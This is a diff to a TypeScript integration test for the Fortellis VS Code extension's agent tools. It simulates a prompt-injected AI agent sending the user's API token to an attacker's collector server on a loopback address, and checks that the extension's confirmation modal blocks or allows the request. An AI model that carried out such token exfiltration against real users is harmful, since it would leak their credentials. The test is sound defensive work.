@@ -7,12 +7,15 @@ import * as vscode from 'vscode';
 import { AgentTools } from '../../../src/agentTools/agentTools';
 import { GATEWAY_ERROR_HINTS } from '../../../src/core/apiRequests/gatewayErrors';
 import { AGENT_TOOL_NAMES, AGENT_TOOLS } from '../../../src/core/agentTools/agentToolNames';
-import type { Redactor } from '../../../src/core/text/redaction';
+import { Redactor } from '../../../src/core/text/redaction';
+import { TokenDestinationPrompt } from '../../../src/apiRequests/tokenDestinationPrompt';
 import type { TokenLifecycle } from '../../../src/core/tokens/tokenLifecycle';
 import type { Log } from '../../../src/log';
 import { Settings } from '../../../src/settings';
 import { type Sandbox, startSandbox } from '../../sandbox/sandboxServer';
-import { apiRequests, copiedToken, ensureSandboxProfile, sandboxApiBaseUrl, testApp, until } from '../testEnvironment';
+import { USER_ACTION } from '../../../src/core/agentTools/agentToolNames';
+import { NO_SUBSCRIPTIONS_URL } from '../../../src/core/apiRequests/subscriptions';
+import { apiRequests, copiedToken, ensureSandboxProfile, NEW_URL, sandboxApiBaseUrl, sandboxTokenRequests, testApp, until } from '../testEnvironment';
 import { ScriptedUser } from '../userInput';
 
 /** Every result part of every call in this window, for the secret scan at the end. */
@@ -38,6 +41,32 @@ async function rememberCurrentToken(): Promise<string> {
   const token = await copiedToken();
   secrets.add(token);
   return token;
+}
+
+/** A modal the extension opened with showWarningMessage, held open until the test answers it as the user would. */
+interface HeldDialog {
+  readonly message: string;
+  readonly modal: boolean;
+  readonly detail?: string;
+  readonly buttons: string[];
+  answer(choice: string | undefined): void;
+}
+
+/**
+ * Holds every showWarningMessage the extension opens (the modal it asks before the token leaves the API base) until
+ * the test answers it: what is sent while a dialog is open can be checked. dispose() puts the real one back.
+ */
+function holdDialogs(): { readonly opened: HeldDialog[]; dispose(): void } {
+  const window = vscode.window as { -readonly [K in keyof typeof vscode.window]: (typeof vscode.window)[K] };
+  const original = window.showWarningMessage;
+  const opened: HeldDialog[] = [];
+  window.showWarningMessage = ((message: string, ...rest: unknown[]) => {
+    const options = typeof rest[0] === 'object' && rest[0] !== null && !('title' in rest[0]) ? (rest.shift() as vscode.MessageOptions) : {};
+    return new Promise<string | undefined>((resolve) =>
+      opened.push({ message, modal: options.modal === true, detail: options.detail, buttons: rest as string[], answer: resolve }),
+    );
+  }) as typeof vscode.window.showWarningMessage;
+  return { opened, dispose: () => (window.showWarningMessage = original) };
 }
 
 const ours = () => vscode.lm.tools.filter((tool) => (AGENT_TOOL_NAMES as readonly string[]).includes(tool.name));
@@ -179,6 +208,8 @@ describe('Agent tools (vscode.lm) in the real extension host, against the sandbo
     });
     await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
     const source = new vscode.CancellationTokenSource();
+    // 127.0.0.1 is outside the sandbox's API base: the user sends to it in Fortellis' dialog.
+    user = new ScriptedUser([], `Send to 127.0.0.1:${(silent.address() as AddressInfo).port}`);
     try {
       const url = `http://127.0.0.1:${(silent.address() as AddressInfo).port}/slow`;
       const call = invoke(AGENT_TOOLS.callApi, { method: 'GET', url }, source.token);
@@ -290,14 +321,137 @@ describe('Agent tools (vscode.lm) in the real extension host, against the sandbo
     assert.match(text, /^INVALID-TOKEN: /);
   });
 
+  describe("Fortellis' own dialog, with VS Code's tool approvals switched off (chat.tools.global.autoApprove)", () => {
+    const chat = () => vscode.workspace.getConfiguration('chat');
+    /** Another loopback address than the sandbox's (127.0.0.2): a prompt injection's collector. */
+    let attacker: Server;
+    let attackerHost: string;
+    const stolen: Array<{ method?: string; url?: string; bearer: boolean }> = [];
+    let dialogs: ReturnType<typeof holdDialogs> | undefined;
+    afterEach(() => dialogs?.dispose());
+    /** The first dialog Fortellis opened; fails at once if the attacker was sent anything before it. */
+    const asked = (): HeldDialog | undefined => {
+      assert.deepEqual(stolen, [], 'the attacker received a request before any dialog was answered');
+      return dialogs?.opened[0];
+    };
+
+    before(async () => {
+      await ensureSandboxProfile();
+      // VS Code's own opt-in to global auto-approval is a workbench dialog, which the test host refuses to show; this
+      // context key is what VS Code's tests set instead (it stands for a user who clicked "Enable").
+      await vscode.commands.executeCommand('setContext', 'vscode.chat.tools.global.autoApprove.testMode', true);
+      await chat().update('tools.global.autoApprove', true, vscode.ConfigurationTarget.Global);
+      attacker = createServer((req, res) => {
+        const authorization = req.headers.authorization ?? '';
+        if (authorization.startsWith('Bearer ')) {
+          secrets.add(authorization.slice('Bearer '.length));
+        }
+        stolen.push({ method: req.method, url: req.url, bearer: authorization.startsWith('Bearer ') });
+        req.resume();
+        res.writeHead(200, { 'content-type': 'application/json' }).end('{"collected":true}');
+      });
+      await new Promise<void>((resolve, reject) => attacker.once('error', reject).listen(0, '127.0.0.3', resolve));
+      attackerHost = `127.0.0.3:${(attacker.address() as AddressInfo).port}`;
+    });
+
+    after(async () => {
+      await chat().update('tools.global.autoApprove', undefined, vscode.ConfigurationTarget.Global);
+      await vscode.commands.executeCommand('setContext', 'vscode.chat.tools.global.autoApprove.testMode', undefined);
+      attacker.closeAllConnections();
+      attacker.close();
+    });
+
+    it('an agent\'s POST to another loopback address: Fortellis asks in its own modal, naming the host and showing the body; "Cancel" sends nothing and the result says so', async () => {
+      assert.equal(chat().get('tools.global.autoApprove'), true, "VS Code's approvals are off in this window");
+      dialogs = holdDialogs();
+      const call = invoke(AGENT_TOOLS.callApi, { method: 'POST', url: `http://${attackerHost}/collect`, body: { note: 'from a README' } });
+      const dialog = await until('Fortellis asked', () => asked(), 10_000);
+      assert.equal(stolen.length, 0, 'nothing reached the attacker while the dialog is open');
+      assert.equal(dialog.modal, true);
+      assert.ok(dialog.message.startsWith(`Send the token of "sandbox" to ${attackerHost}? `), dialog.message);
+      assert.deepEqual(dialog.buttons, [`Send to ${attackerHost}`]);
+      assert.match(dialog.detail ?? '', /^An AI agent asks for this through the tool fortellis_call_api\.$/m);
+      assert.match(dialog.detail ?? '', /^Body \(24 bytes\): \{"note":"from a README"\}$/m);
+      dialog.answer(undefined);
+      const [text] = await call;
+      assert.equal(
+        text,
+        `Nothing was sent: the user declined POST http://${attackerHost}/collect in Fortellis' confirmation dialog, so the token did not leave VS Code. Do not retry this request unless the user asks for it.`,
+      );
+      assert.equal(stolen.length, 0, 'the attacker received nothing');
+    });
+
+    it('"Send to <host>": exactly one request, with the token; the host is then allowed for the session, for Call API too', async () => {
+      dialogs = holdDialogs();
+      const call = invoke(AGENT_TOOLS.callApi, { method: 'GET', url: `http://${attackerHost}/collect?n=1` });
+      const dialog = await until('Fortellis asked', () => asked(), 10_000);
+      assert.equal(stolen.length, 0, 'nothing before the user answers');
+      dialog.answer(`Send to ${attackerHost}`);
+      const [text] = await call;
+      assert.match(text, /→ HTTP 200 OK/, text);
+      assert.deepEqual(stolen, [{ method: 'GET', url: '/collect?n=1', bearer: true }]);
+      // Asked once per host and session: the agent's next call, and Call API's, go without a dialog.
+      const [again] = await invoke(AGENT_TOOLS.callApi, { method: 'GET', url: `http://${attackerHost}/collect?n=2` });
+      assert.match(again, /→ HTTP 200 OK/, again);
+      dialogs.dispose();
+      user = new ScriptedUser(['GET', NEW_URL, `http://${attackerHost}/collect?n=3`, 'test']);
+      await vscode.commands.executeCommand('fortellis.callApi');
+      assert.equal(user.unanswered, 0, 'every step of Call API was asked');
+      assert.deepEqual(user.messages, [], 'Call API did not ask about the host the user allowed for the agent');
+      assert.equal(dialogs.opened.length, 1, 'one dialog in all');
+      assert.deepEqual(
+        stolen.map((seen) => seen.url),
+        ['/collect?n=1', '/collect?n=2', '/collect?n=3'],
+      );
+    });
+
+    it('a Custom profile without "apiBaseUrl": a path is refused saying what to set, Fortellis production is asked for like any host, list_subscriptions says what the picker says; nothing is sent', async () => {
+      const saved = { profiles: fortellis().inspect<unknown[]>('profiles')?.globalValue, active: fortellis().inspect<string>('activeProfile')?.globalValue };
+      const issuer = fortellis().get<string>('sandbox.issuer');
+      await fortellis().update(
+        'profiles',
+        [...(saved.profiles ?? []), { name: 'custom-no-base', environment: 'custom', apiKey: testApp.apiKey, issuer }],
+        vscode.ConfigurationTarget.Global,
+      );
+      await fortellis().update('activeProfile', 'custom-no-base', vscode.ConfigurationTarget.Global);
+      const before = { tokens: await sandboxTokenRequests(), api: (await apiRequests()).length };
+      dialogs = holdDialogs();
+      try {
+        const [relative] = await invoke(AGENT_TOOLS.callApi, { method: 'GET', url: '/cdk-test/sales/v1/vehicles' });
+        assert.match(relative, /^Nothing was sent: "\/cdk-test\/sales\/v1\/vehicles" is a path\. This profile has no API base/, relative);
+        assert.match(relative, /set "apiBaseUrl" in the Custom profile \(setting "fortellis\.profiles"\)/);
+        assert.equal(dialogs.opened.length, 0, 'a path is not asked about: it is refused');
+
+        const call = invoke(AGENT_TOOLS.callApi, { method: 'GET', url: 'https://api.fortellis.io/cdk-test/sales/v1/vehicles' });
+        const dialog = await until('Fortellis asked about production', () => dialogs?.opened[0], 10_000);
+        assert.match(dialog.message, /^Send the token of "custom-no-base" to api\.fortellis\.io\? .*an API base of this profile \(it has none configured\)/);
+        dialog.answer(undefined);
+        const [declined] = await call;
+        assert.match(declined, /^Nothing was sent: the user declined GET https:\/\/api\.fortellis\.io\/cdk-test\/sales\/v1\/vehicles/);
+
+        const [subscriptions] = await invoke(AGENT_TOOLS.listSubscriptions, {});
+        assert.equal(subscriptions, USER_ACTION.noSubscriptionsUrl('custom-no-base'));
+        assert.ok(subscriptions.includes(NO_SUBSCRIPTIONS_URL.action), subscriptions);
+        assert.equal(await sandboxTokenRequests(), before.tokens, 'no token was even requested');
+        assert.equal((await apiRequests()).length, before.api, 'the sandbox API saw nothing');
+      } finally {
+        await fortellis().update('activeProfile', saved.active, vscode.ConfigurationTarget.Global);
+        await fortellis().update('profiles', saved.profiles, vscode.ConfigurationTarget.Global);
+      }
+    });
+  });
+
   describe('prepareInvocation, called directly', () => {
     const settings = new Settings(() => undefined);
-    const tools = new AgentTools({
-      settings,
-      tokens: { environment: (profile) => settings.environment(profile) } as Pick<TokenLifecycle, 'environment'> as TokenLifecycle,
-      redactor: {} as Redactor,
-      log: {} as Log,
-    });
+    const tools = new AgentTools(
+      {
+        settings,
+        tokens: { environment: (profile) => settings.environment(profile) } as Pick<TokenLifecycle, 'environment'> as TokenLifecycle,
+        redactor: new Redactor(),
+        log: {} as Log,
+      },
+      new TokenDestinationPrompt(),
+    );
 
     it('a POST under the API base asks first, naming the method, the host and the profile', () => {
       const prepared = tools.prepare(AGENT_TOOLS.callApi, { method: 'POST', url: '/cdk-test/sales/v1/orders', body: { vin: '1' } });
@@ -307,7 +461,7 @@ describe('Agent tools (vscode.lm) in the real extension host, against the sandbo
       assert.match(message, new RegExp(`^Send POST ${sandboxApiBaseUrl()}/cdk-test/sales/v1/orders$`, 'm'));
       assert.match(message, new RegExp(`^Host: ${host}$`, 'm'));
       assert.match(message, /^Profile: sandbox /m);
-      assert.match(message, /^Body: 11 bytes$/m);
+      assert.match(message, /^Body \(11 bytes\): \{"vin":"1"\}$/m);
     });
 
     it('a GET to a host outside the API base asks first; a GET under it does not', () => {
